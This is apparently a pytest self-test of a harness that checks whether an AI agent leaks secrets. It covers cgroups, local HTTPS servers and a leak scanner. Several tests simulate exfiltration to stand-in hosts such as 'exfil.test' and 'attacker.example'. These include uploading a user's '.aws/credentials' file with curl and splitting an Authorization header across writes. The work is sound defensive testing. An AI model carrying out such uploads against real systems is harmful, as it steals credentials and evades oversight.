"""Self-test of the harness (needs root and cgroup v2, not the agent): if these fail, the agent
tests' verdicts mean nothing. Each test checks one piece against an independent observation."""

import base64
import json
import subprocess
import time

from kharness import env
from kharness.cgroup import TestCgroup
from kharness.secrets import SecretRegistry
from kharness.servers import sha256
from kharness.users import write_user_file


def test_client_runs_inside_the_test_cgroup(clients, cgroup):
    result = clients.run(["cat", "/proc/self/cgroup"])
    assert f"0::/{cgroup.path.name}\n" in result.stdout


def test_client_outside_cgroup_is_not_in_it(clients, cgroup):
    result = clients.run(["cat", "/proc/self/cgroup"], in_cgroup=False)
    assert cgroup.path.name not in result.stdout


def test_cgroup_teardown_kills_leftovers_and_removes_dir(cgroup_base, registry):
    cg = TestCgroup(cgroup_base)
    runner_proc = subprocess.Popen(["sleep", "300"],
                                   preexec_fn=lambda: open(cg.procs_file, "w").write("0"))
    try:
        deadline = time.monotonic() + 5
        while runner_proc.pid not in cg.pids() and time.monotonic() < deadline:
            time.sleep(0.02)
        assert cg.contains(runner_proc.pid)
        started = time.monotonic()
        cg.remove()
        assert time.monotonic() - started < 6
        assert runner_proc.wait(timeout=5) == -9
        assert not cg.path.exists()
    finally:
        runner_proc.kill()
        cg.remove()


def test_https_server_sees_name_sni_and_full_body(clients, https_server, curl, scratch):
    body = b"x" * 300_000  # several TLS records: the server must read all of it
    (scratch / "body").write_bytes(body)
    clients.run(curl.https(https_server, "exfil.test", "/v1/up") +
                ["-H", "Authorization: Bearer not-a-secret", "--data-binary", f"@{scratch}/body"])
    [req] = https_server.wait_for_requests(1)
    assert (req.method, req.path, req.sni) == ("POST", "/v1/up", "exfil.test")
    assert req.host_header == f"exfil.test:{https_server.port}"
    assert req.header_digests["authorization"] == sha256("Bearer not-a-secret")
    assert (req.body_len, req.body_sha256) == (len(body), sha256(body))


def test_curl_rejects_a_name_outside_the_certificate(clients, https_server, curl):
    result = clients.run(curl.https(https_server, "not-in-cert.test"), check=False)
    assert result.rc == 60  # CURLE_PEER_FAILED_VERIFICATION: the CA really is checked


def test_plain_http_server_counts_chunked_bodies(clients, http_server, curl):
    result = clients.run(curl.http(http_server, "/c") +
                         ["-H", "Transfer-Encoding: chunked", "--data-binary", "hello chunks"])
    assert '"ok"' in result.stdout
    [req] = http_server.wait_for_requests(1)
    assert (req.body_len, req.body_sha256, req.sni) == (12, sha256("hello chunks"), None)


def _python_client(pki, server, scratch, mode, name, body, extra=(), headers=None):
    (scratch / "body.json").write_bytes(body)
    (scratch / "headers.json").write_text(json.dumps(headers or {"X-Test": "1"}))
    return [env.PYTHON, str(env.CLIENTS / "https_client.py"), "--mode", mode, "--name", name,
            "--port", str(server.port), "--cafile", str(pki.ca), "--path", "/v1/messages",
            "--headers-file", str(scratch / "headers.json"),
            "--body-file", str(scratch / "body.json"), *extra]


def test_python_urllib_client_reaches_server_under_name(clients, https_server, pki, scratch):
    body = b'{"hello": "world"}'
    result = clients.run(_python_client(pki, https_server, scratch, "urllib",
                                        "attacker.example", body))
    assert result.stdout.strip() == "status 200"
    [req] = https_server.wait_for_requests(1)
    assert (req.method, req.sni, req.body_sha256) == ("POST", "attacker.example", sha256(body))
    assert req.header_digests["x-test"] == sha256("1")


def test_python_split_client_delivers_both_halves(clients, https_server, pki, scratch):
    body = b'{"k": "' + b"a" * 200 + b'"}'
    result = clients.run(_python_client(pki, https_server, scratch, "split", "exfil.test", body,
                                        ["--split-at", "150"]))
    assert result.stdout.strip() == "status 200"
    [req] = https_server.wait_for_requests(1)
    assert (req.sni, req.body_len, req.body_sha256) == ("exfil.test", len(body), sha256(body))


def test_python_split_client_cuts_inside_a_header_value(clients, https_server, pki, scratch):
    value = "Bearer " + "v" * 60
    result = clients.run(_python_client(pki, https_server, scratch, "split", "exfil.test", b"{}",
                                        ["--split-mid-header", "Authorization"],
                                        {"Authorization": value}))
    assert result.stdout.strip() == "status 200"
    [req] = https_server.wait_for_requests(1)
    assert req.header_digests["authorization"] == sha256(value)


def test_user_client_runs_as_user_and_uploads_own_file(clients, test_user, https_server, curl):
    path = write_user_file(test_user, ".aws/credentials", "[default]\nregion = x\n")
    ids = clients.run(["sh", "-c", 'id -u; id -g; echo "$HOME"'], user=test_user)
    assert ids.stdout.split() == [str(test_user.uid), str(test_user.gid), test_user.home]
    clients.run(curl.https(https_server, "exfil.test", "/u") + ["-T", str(path)], user=test_user)
    [req] = https_server.wait_for_requests(1)
    assert (req.method, req.body_sha256) == ("PUT", sha256(path.read_bytes()))


def test_leak_scanner_finds_raw_and_base64_and_never_prints_the_key(scratch):
    reg = SecretRegistry()
    key = reg.new("openai")
    clean = scratch / "clean.log"
    clean.write_text("alert: sk-proj-…abcd fingerprint hmac-sha256:00\n")
    raw = scratch / "raw.log"
    raw.write_text(f"Authorization: Bearer {key}\n")
    for pad in range(3):
        path = scratch / f"b64-{pad}.log"
        path.write_bytes(b"data=" + base64.b64encode(b"p" * pad + key.encode() + b"!") + b"\n")
        reg.watch_file(path)
    reg.watch_file(clean)
    reg.watch_file(raw)
    reg.watch_text("client stdout", f"{key}")
    leaks = reg.leaks()
    assert len(leaks) == 5
    assert sum("base64" in line for line in leaks) == 3
    assert not any(key in line for line in leaks)
    assert "clean.log" not in "\n".join(leaks)
    assert key not in reg.redact(f"x {key} y") and "<secret#1:openai>" in reg.redact(key)
    # pytest abbreviates long strings in assertion output to a head and a tail.
    abbreviated = reg.redact(f"assert '{key[:12]}...{key[-13:]}' == 'x'")
    assert key[:10] not in abbreviated and key[-10:] not in abbreviated


def test_synthetic_keys_have_the_documented_formats(registry):
    import re
    assert re.fullmatch(r"sk-proj-[A-Za-z0-9_-]{74}T3BlbkFJ[A-Za-z0-9_-]{74}",
                        registry.new("openai"))
    assert re.fullmatch(r"sk-ant-api03-[A-Za-z0-9_-]{93}AA", registry.new("anthropic"))
    assert re.fullmatch(r"AKIA[A-Z2-7]{16}", registry.new("aws-id"))
    assert re.fullmatch(r"[A-Za-z0-9/+]{40}", registry.new("aws-secret"))
